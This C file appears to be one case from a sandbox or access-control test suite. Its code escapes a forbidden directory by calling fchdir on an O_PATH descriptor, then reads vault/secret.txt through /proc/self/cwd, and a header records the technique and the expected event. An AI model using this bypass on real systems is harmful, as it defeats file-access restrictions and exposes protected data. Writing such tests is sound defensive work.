/* technique: goes into the forbidden directory by an O_PATH descriptor, then by /proc/self/cwd
 * source: fchdir(2); proc_pid_cwd(5)
 * success: the content of vault/secret.txt on the output
 * control: permissive
 * event: FileOpenReadOnly
 */
#include "attack.h"

int main(void)
{
	if (fchdir(open("vault/deep", O_PATH | O_DIRECTORY)))
		return failed("fchdir");
	return show_path("/proc/self/cwd/../secret.txt");
}
